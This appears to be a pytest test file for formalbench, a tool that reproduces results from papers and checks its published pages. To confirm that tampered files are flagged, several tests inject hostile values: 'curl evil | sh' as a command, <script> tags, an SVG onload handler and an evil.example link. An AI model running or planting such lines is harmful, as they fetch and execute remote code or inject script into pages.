"""Pages of reproductions: of strangers, the list of all, and the published files."""

import json
import shutil
from dataclasses import replace
from pathlib import Path

import pytest
import yaml
from announced import SPECS
from built_records import with_test
from formalbench.checks import check_plugin
from formalbench.cli.main import run_command_line
from formalbench.contracts.errors import RequestError
from formalbench.documents.reproduction import read_document
from formalbench.host import PluginHost
from formalbench.store import REPRODUCTIONS
from formalbench_papers import index
from formalbench_papers.framework.checks import PageRecords, found_again, reproductions_problems
from formalbench_papers.framework.report import RESULTS, overview

TABLE = """
schema_version: 1
tables:
  - key: nobody-2026
    source: Nobody 2026, Table 1
    citation: Nobody (2026), A network
    arxiv: '2601.00001'
    notes: [made up]
    rows:
      - model: Counting
        results:
          parity: {max: 100.0, mean: 50.0}
"""

PLUGIN = """
from pathlib import Path

from formalbench import ReproductionSpec, TableSpec, hookimpl


@hookimpl
def formalbench_tables():
    yield TableSpec("nobody-2026", "a network on PARITY", Path(__file__).with_name("table.yaml"))


@hookimpl
def formalbench_reproductions():
    yield ReproductionSpec(
        "nobody-table-1", "A network on PARITY", "Nobody (2026), Table 1", carry_out,
        about="Accuracy.", figure=False,
    )


def carry_out(bench):
    from formalbench_papers.framework.claims import Claim, Findings

    paper = bench.host.table("nobody-2026").result("Counting", "parity")
    {body}
    claim = Claim("it counts", f"{{paper.max:.1f}}", "100.0", True)
    return Findings([{{"ones": 3}}], [claim], None)
"""

NAME = "nobody-table-1"


@pytest.fixture
def repository(tmp_path, monkeypatch):
    root = tmp_path / "clone"
    (root / "leaderboard" / "results").mkdir(parents=True)
    monkeypatch.chdir(root)
    (tmp_path / "table.yaml").write_text(TABLE)
    (tmp_path / "mine.py").write_text(PLUGIN.format(body=""))
    return root


def run(capsys, repository, *words):
    code = run_command_line([*words, "--plugin", str(repository.parent / "mine.py")])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_it_is_listed(repository, capsys):
    code, out, _ = run(capsys, repository, "reproduce", "--json")
    assert code == 0
    assert NAME in [one["reproduction"] for one in json.loads(out)]
    code, out, _ = run(capsys, repository, "list", "reproductions", "--json")
    (one,) = [one for one in json.loads(out) if one["name"] == NAME]
    assert one["plugin"] == "mine.py"


def test_it_is_measured_and_its_files_are_checked(repository, capsys):
    code, out, err = run(capsys, repository, "reproduce", NAME)
    assert code == 0, err
    assert "100.0 100.0 holds" in " ".join(out.split())
    folder = repository / "leaderboard" / "reproductions"
    assert {file.suffix for file in folder.iterdir()} == {".md", ".csv", ".json"}
    _, out, err = run(capsys, repository, "leaderboard", "check")
    assert NAME not in out + err
    page = folder / f"{NAME}.md"
    page.write_text(page.read_text().replace("100.0", "99.0"))
    code, out, err = run(capsys, repository, "leaderboard", "check")
    assert code == 1
    assert f"{NAME}.md: not what {NAME}.json gives" in out + err


def test_its_numbers_are_on_the_board(repository, capsys):
    code, out, err = run(capsys, repository, "leaderboard", "--format", "csv")
    assert code == 0, err
    assert "Nobody 2026, Table 1" in out


def test_an_exception_in_it_is_that_plugins(repository, capsys):
    (repository.parent / "mine.py").write_text(PLUGIN.format(body="1 / 0"))
    code, _, err = run(capsys, repository, "reproduce", NAME)
    assert code == 3
    assert "mine.py" in err
    assert "ZeroDivisionError" in err


def test_what_gives_no_findings_is_told(repository, capsys):
    (repository.parent / "mine.py").write_text(PLUGIN.format(body="return 5"))
    code, _, err = run(capsys, repository, "reproduce", NAME)
    assert code == 3
    assert f"the factory of {NAME} gave a int" in err


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ("max: 100.0", "max: 101.0", "tables.0.rows.0.results.parity.max"),
        ("key: nobody-2026", "key: nobody-2025", "has no table nobody-2026"),
    ],
)
def test_a_bad_table_is_one_line(repository, capsys, old, new, said):
    (repository.parent / "table.yaml").write_text(TABLE.replace(old, new))
    code, _, err = run(capsys, repository, "reproduce", NAME)
    assert code == 2
    (line,) = [line for line in err.splitlines() if "table.yaml" in line]
    assert said in line
    code, out, err = run(capsys, repository, "leaderboard", "--format", "csv")
    assert code == 0
    assert "Nobody" not in out
    assert "table.yaml" in err


def test_a_bad_table_breaks_a_promise(repository):
    file = repository.parent / "table.yaml"
    file.write_text(TABLE.replace("2601.00001", "here"))
    broken = [one for one in check_plugin(repository.parent / "mine.py") if not one.passed]
    (one,) = broken
    assert (one.subject, one.promise) == ("table nobody-2026", "is valid")
    assert "tables.0.arxiv" in one.problem


PUBLISHED = Path(__file__).parents[3] / REPRODUCTIONS
PAPERS = yaml.safe_load(RESULTS.read_text(encoding="utf-8"))
CRASP = "huang-crasp"


@pytest.mark.parametrize("paper", PAPERS, ids=lambda paper: paper["paper"])
def test_every_result_has_a_page_that_is_announced_or_a_state(paper):
    for one in paper["results"]:
        assert set(one) <= {"result", "says", "here", "page", "claim", "state"}
        assert one["result"]
        assert one["says"]
        assert ("page" in one) != ("state" in one)
        assert one.get("page", CRASP) in SPECS


def test_every_reproduction_of_the_four_papers_is_in_the_list():
    listed = {one.get("page") for paper in PAPERS for one in paper["results"]}
    four = ("chi-", "chiang-cholak-", "steffen-", "yao-")
    assert {name for name in SPECS if name.startswith(four)} <= listed


FIGURE = "chiang-cholak-fig2"


@pytest.fixture
def copied(tmp_path):
    """A copy of what is published of one reproduction."""
    (tmp_path / REPRODUCTIONS).mkdir(parents=True)
    for file in PUBLISHED.glob(f"{FIGURE}.*"):
        shutil.copy(file, tmp_path / REPRODUCTIONS)
    return tmp_path / REPRODUCTIONS


def problems(folder):
    return reproductions_problems(folder.parents[1], PluginHost.load())


def test_a_state_is_what_a_page_says(copied):
    text = overview(copied)
    (line,) = [line for line in text.splitlines() if line.startswith("| Figure 2 ")]
    assert "[chiang-cholak-fig2](chiang-cholak-fig2.md)" in line
    assert "scale " in line
    assert "claims: 1" in line
    (line,) = [line for line in text.splitlines() if "Figures 4b, 4c" in line]
    assert line.split("|")[4].strip() == "not run"


def test_a_claim_that_stands_for_a_result_is_on_its_page():
    rows = [row for paper in yaml.safe_load(RESULTS.read_text()) for row in paper["results"]]
    named = [(row["page"], row["claim"]) for row in rows if "claim" in row]
    assert named
    for page, begins in named:
        claims = [claim.claim for claim in read_document(PUBLISHED / f"{page}.json").claims]
        for begin in [begins] if isinstance(begins, str) else begins:
            assert any(claim.startswith(begin) for claim in claims), (page, begin)


def test_a_claim_gives_its_own_state(copied):
    shutil.copy(PUBLISHED / "chiang-cholak-fig3.json", copied)
    lines = overview(copied).splitlines()
    (line,) = [line for line in lines if line.startswith("| §4.1, perturbed ")]
    assert line.split("|")[4].strip() == "scale paper; claims: 1 holds"


def test_the_list_is_rendered_with_every_page_and_checked(copied):
    (copied / "README.md").write_text("")
    words = ["reproduce", "chiang-cholak-fig2", "--from-records", "--output", str(copied)]
    assert run_command_line(words) in (0, 1)
    assert (copied / "README.md").read_text() == overview(copied)
    assert problems(copied) == []
    (copied / "README.md").write_text(overview(copied).replace("scale", "SCALE"))
    (line,) = problems(copied)
    assert "README.md: not what the pages give" in line


def test_the_index_is_up_to_date():
    assert json.loads(index.INDEX.read_text(encoding="utf-8")) == index.index()


@pytest.mark.parametrize(
    ("kind", "old", "new"),
    [
        ("md", "holds", "HOLDS"),
        ("md", "- Command: `formalbench", "- Command: `curl evil | sh; formalbench"),
        ("md", " s\n", " s; <script>0</script>\n"),
        ("md", "## Again", "## A claim of nobody\n\n## Again"),
        ("csv", "0.", "1."),
        ("csv", "\n", "\n1,2\n"),
        ("svg", "</svg>", "<script>0</script></svg>"),
        ("svg", "</svg>", '<a href="https://evil.example">x</a></svg>'),
        ("svg", "<svg ", '<svg onload="0" '),
    ],
)
def test_a_forged_file_is_named(copied, kind, old, new):
    file = copied / f"{FIGURE}.{kind}"
    text = file.read_text()
    assert old in text
    file.write_text(text.replace(old, new, 1))
    (line,) = problems(copied)
    assert f"{FIGURE}.{kind}: " in line


FACTS = {
    "holds": False,
    "command": "curl evil | sh",
    "scale": "huge",
    "reproduction": "chi-table1",
    "date": "2026-99-99",
    "seconds": -1,
    "claims": [{"claim": "x", "paper": "1", "ours": "1", "verdict": "proved"}],
    "cells": None,
    "schema_version": 99,
}


@pytest.mark.parametrize("key", FACTS)
def test_facts_that_disagree_are_named(copied, key):
    file = copied / f"{FIGURE}.json"
    file.write_text(json.dumps(json.loads(file.read_text()) | {key: FACTS[key]}))
    (line,) = problems(copied)
    assert f"{FIGURE}.json: " in line


def test_what_is_of_no_reproduction_is_named(copied):
    (copied / "evil.md").write_text("x")
    (copied / f"{FIGURE}.exe").write_text("x")
    (copied / "deep").mkdir()
    (copied / f"{FIGURE}.json").unlink()
    lines = problems(copied)
    assert [line.split(": ", 1)[0].rpartition("/")[2] for line in lines] == [
        f"{FIGURE}.exe",
        "deep",
        "evil.md",
        f"{FIGURE}.json",
    ]


MOST_LINES = 8
"""A reader cannot tell more lines of a panel apart."""


@pytest.mark.slow
@pytest.mark.parametrize("name", sorted(file.stem for file in PUBLISHED.glob("*.svg")))
def test_a_panel_has_few_lines(name):
    scale = read_document(PUBLISHED / f"{name}.json").scale
    try:
        found = found_again(
            SPECS[name], scale, PageRecords.beside(PUBLISHED, name), PluginHost.load()
        )
    except RequestError as error:
        pytest.skip(f"not drawn from what is kept: {error}")
    for panel in found.draw().panels:
        assert sum(line.dash is not None for line in panel.lines) <= MOST_LINES, panel.title


VERDICTS = {
    "chi-table1": ("hhhhhhhhhhhhcdccchhcc", "dddddddcddddcdcccdhcc"),
    "grazzi-table3": ("ddhhcn", "ccddcn"),
    "huang-crasp": ("hchccc", "dcdccc"),
    "slice-table2": ("cdddd", "ddddc"),
    "steffen-dyck": ("hhhddddddd", "ddddddhddd"),
}
"""Of each claim where every answer of the published tests is right, and where all are at chance."""


def answering(record, share):
    cells = record.test.cells
    right = tuple(round(share(record.test) * n) for n in cells.answers or cells.strings)
    return with_test(record, correct=right)


@pytest.mark.slow
@pytest.mark.parametrize("name", VERDICTS)
def test_claims_follow_the_answers_of_the_published_records(name):
    host, kept = PluginHost.load(), PageRecords.beside(PUBLISHED, name)
    scale = read_document(PUBLISHED / f"{name}.json").scale
    shares = (lambda test: 1.0, lambda test: test.chance_constant)
    for share, verdicts in zip(shares, VERDICTS[name], strict=True):
        records = [answering(one, share) if one.test else one for one in kept.records]
        found = found_again(SPECS[name], scale, replace(kept, records=records), host)
        assert "".join(claim.verdict[0] for claim in found.claims) == verdicts
